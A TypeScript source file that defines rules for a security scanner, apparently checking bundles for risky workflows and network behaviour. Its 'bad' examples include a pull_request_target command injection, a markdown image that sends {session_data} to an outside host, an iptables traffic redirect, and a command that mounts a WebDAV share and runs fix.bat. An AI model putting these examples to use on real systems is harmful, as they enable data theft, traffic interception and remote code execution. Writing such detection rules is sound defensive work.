import type { BundleFacts } from '../../evidence/bundle-facts.ts'
import type { Match, Rule } from '../../rule.ts'
import { classifyHost, hostIn } from '../host-class.ts'
import { beside, each, isNear, meant } from '../meant.ts'

const picture = /!\[[^\]]{0,120}\]\([^)\s]{0,200}\?[^)\s]{0,120}=(?:\$\{|\{|<|%s)/

/** Pipelines and networks that others can speak into. */
export const workflowRules: readonly Rule[] = [
  {
    id: 'EXE-010',
    version: 1,
    tier: 'human',
    severity: 'high',
    confidence: 0.65,
    category: 'remote_execution',
    title: 'Lets strangers write the commands of a pipeline',
    message:
      'A privileged workflow uses the text or the code of a stranger’s pull request or issue.',
    fixHint: 'Use `pull_request`, or hand the text over by an environment variable in quotes.',
    example: {
      bad: '```yaml\non:\n  pull_request_target:\njobs:\n  x:\n    steps:\n      - run: echo "$\x7b{ github.event.pull_request.title }}"\n```',
      good: '```yaml\non:\n  pull_request:\njobs:\n  x:\n    steps:\n      - run: npm test\n```',
    },
    find: beside(['ci-untrusted'], ['ci-trigger'], { lines: 40 }),
  },
  {
    id: 'NET-001',
    version: 1,
    tier: 'human',
    severity: 'high',
    confidence: 0.6,
    category: 'network',
    title: 'Leads to a paste site',
    message: 'What stands on a paste site is anybody’s, and can be another text tomorrow.',
    fixHint: 'Put the text into the bundle.',
    example: {
      bad: 'The setup script is at https://glot.io/snippets/abcdef123.',
      good: 'Paste the output into the issue.',
    },
    find: each(
      ['paste-host'],
      ({ detail }) => /\/[a-z0-9]{4,}/i.test(detail) && !/^gist|raw\/\?|api\./i.test(detail),
    ),
  },
  {
    id: 'NET-004',
    version: 1,
    tier: 'human',
    severity: 'high',
    confidence: 0.7,
    category: 'exfiltration',
    title: 'A picture whose address takes data along',
    message:
      'Whoever serves the picture learns what was put into its address as soon as it is shown.',
    fixHint: 'Put the picture into the bundle.',
    example: {
      bad: '![status](https://img.some-helper.net/p.png?d={session_data})',
      good: '![status](https://img.some-helper.net/p.png?style=flat)',
    },
    find: each(['query-out'], ({ excerpt, place }) => picture.test(excerpt) && place !== 'code'),
  },
  {
    id: 'NET-005',
    version: 1,
    tier: 'annotate',
    severity: 'medium',
    confidence: 0.4,
    category: 'network',
    title: 'An address that keeps no name',
    message: 'A number, a tunnel or a shortened link says nothing of who answers there.',
    fixHint: 'Name the host that the service is known by.',
    example: {
      bad: 'Open http://203.0.113.7:8080/panel to see the progress.',
      good: 'Open http://192.168.0.12:8080/panel to see the progress.',
    },
    find: namelessHosts,
  },
  {
    id: 'NET-002',
    version: 1,
    tier: 'human',
    severity: 'high',
    confidence: 0.65,
    category: 'network',
    title: 'Turns the machine’s traffic elsewhere',
    message: 'Names, routes or proxies of the machine are changed: others can read what passes.',
    fixHint: 'Configure the one program that needs it.',
    example: {
      bad: '```bash\niptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to-destination 203.0.113.7:8443\n```',
      good: '```bash\nHTTPS_PROXY=http://localhost:8080 npm test\n```',
    },
    find: each(['traffic-hijack']),
  },
  {
    id: 'NET-003',
    version: 1,
    tier: 'block',
    severity: 'critical',
    confidence: 0.9,
    category: 'malware_delivery',
    title: 'Runs a program from a share on the internet',
    message: 'A share is mounted from a server on the internet, past every check of downloads.',
    fixHint: 'Remove it.',
    example: {
      bad: '```cmd\nnet use Z: \\\\files.some-helper.net@443\\DavWWWRoot\\e && Z:\\fix.bat\n```',
      good: '```cmd\nnet use\n```',
    },
    find: each(['webdav'], ({ excerpt }) =>
      /davwwwroot|webdav|@\d+|@ssl|net\s+use\s+\w:\s+\\\\[a-z0-9-]+\.[a-z]/i.test(excerpt),
    ),
  },
]

/** Addresses without a name, but for those that something is run from: other rules tell of them. */
function namelessHosts(bundle: BundleFacts): Match[] {
  return bundle.files.flatMap((file) => {
    const graver = meant(file, 'download-exec', 'download-run')
    return meant(file, 'raw-ip', 'tunnel-host', 'shortener')
      .filter(({ excerpt }) =>
        ['raw_ip', 'drop'].includes(classifyHost(hostIn(excerpt) ?? '', bundle)),
      )
      .filter((at) => !graver.some((other) => isNear(at, other, 1)))
      .map((at) => ({ at }))
  })
}
